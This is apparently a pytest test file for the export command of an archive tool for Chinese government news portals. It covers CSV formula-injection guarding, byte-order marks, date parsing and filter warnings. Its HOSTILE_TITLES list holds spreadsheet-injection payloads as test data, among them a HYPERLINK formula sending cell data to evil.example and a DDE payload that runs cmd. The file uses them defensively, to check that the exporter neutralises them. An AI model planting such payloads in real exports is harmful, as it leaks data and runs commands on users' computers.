"""Exports check what they are asked for: dates, portals and sections; CSV is safe to open
in a spreadsheet and readable in Chinese; JSON Lines stays exact."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import pytest

from archive.export import bound
from archive.store import Store
from tests.conftest import govarc

# Text a spreadsheet would run as a formula, as OWASP lists the characters.
HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture()
def hostile(tmp_path) -> Path:
    """An archive whose titles and sources start like formulas."""
    db = tmp_path / "a.db"
    store = Store(db)
    store.start_run(["gz"])
    store.upsert_portals([{"id": "gz", "name": "测试省人民政府", "domain": "gz.example"}])
    for n, title in enumerate(HOSTILE_TITLES):
        text = f"第{n}篇：曲靖市扶贫工作取得新进展。"
        store.add_article({"url": f"http://gz.example/{n}.html", "portal": "gz",
                           "section": "要闻", "title": title, "source": title, "text": text,
                           "published_at": f"2024-05-0{n + 1}T09:30:00+08:00",
                           "content_hash": hashlib.sha1(text.encode()).hexdigest()})
    store.close()
    return db


def test_csv_cells_that_start_a_formula_are_guarded_and_jsonl_is_exact(hostile, tmp_path):
    out = tmp_path / "articles.csv"
    result = govarc("export", "csv", "--db", str(hostile), "-o", str(out))
    assert result.returncode == 0, result.stderr
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["title"] for r in rows] == ["'" + t for t in HOSTILE_TITLES]
    assert [r["source"] for r in rows] == ["'" + t for t in HOSTILE_TITLES]
    assert all(r["url"].startswith("http://") and not r["text"].startswith("'") for r in rows)
    result = govarc("export", "jsonl", "--db", str(hostile))
    assert [json.loads(line)["title"] for line in result.stdout.splitlines()] == HOSTILE_TITLES


def test_csv_with_a_byte_order_mark_for_spreadsheet_programs(hostile, tmp_path):
    out = tmp_path / "articles.csv"
    result = govarc("export", "csv", "--bom", "--db", str(hostile), "-o", str(out))
    assert result.returncode == 0, result.stderr
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfurl,portal,")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0]["text"].startswith("第0篇：曲靖市")
    plain = govarc("export", "csv", "--db", str(hostile)).stdout
    assert plain.startswith("url,portal,")


@pytest.mark.parametrize("value", ["2021-13-45", "yesterday", "2021/10/25", "25.10.2021",
                                   "2021-10-25T25:00"])
def test_a_date_that_is_not_iso_8601_is_exit_2_and_one_line(hostile, tmp_path, value):
    out = tmp_path / "out.jsonl"
    for option in ("--since", "--until"):
        result = govarc("export", "jsonl", "--db", str(hostile), option, value, "-o", str(out))
        assert result.returncode == 2
        assert result.stderr.strip() == (f"govarc: {option}: {value!r} is not an ISO 8601 day "
                                         "or time (e.g. 2021-10-25 or "
                                         "2021-10-25T08:00:00+08:00)")
        assert not out.exists()


def test_dates_bound_by_day_and_by_time_in_any_offset(hostile):
    def exported(*args: str) -> list[str]:
        result = govarc("export", "jsonl", "--db", str(hostile), *args)
        assert result.returncode == 0, result.stderr
        return [json.loads(line)["published_at"][:10] for line in result.stdout.splitlines()]

    assert exported("--since", "2024-05-02", "--until", "2024-05-03") == [
        "2024-05-02", "2024-05-03"]  # until: the whole day
    assert exported("--until", "2024-05-02T09:30:00+08:00") == ["2024-05-01", "2024-05-02"]
    assert exported("--until", "2024-05-02T09:29:59+08:00") == ["2024-05-01"]
    # 01:30 UTC is 09:30 in China: the same instant
    assert exported("--since", "2024-05-05T01:30:00Z") == ["2024-05-05", "2024-05-06"]
    assert exported("--since", "2024-05-05 09:30") == ["2024-05-05", "2024-05-06"]
    assert bound("2024-05-05T01:30:00.5+00:00") == "2024-05-05T09:30:00.500000+08:00"


def test_a_filter_that_names_nothing_in_the_archive_warns(hostile):
    result = govarc("export", "jsonl", "--db", str(hostile), "--portal", "yn",
                    "--section", "州市动态")
    assert result.returncode == 0 and result.stdout == ""
    assert result.stderr.splitlines() == [
        "govarc: warning: no portal 'yn' in this archive (it has gz)",
        "govarc: warning: no section '州市动态' in this archive (sections are named as the "
        "portal names them, e.g. 州市动态)",
        "exported 0 articles",
    ]
    result = govarc("export", "jsonl", "--db", str(hostile), "--portal", "gz",
                    "--section", "要闻")
    assert result.stderr.splitlines() == [f"exported {len(HOSTILE_TITLES)} articles"]
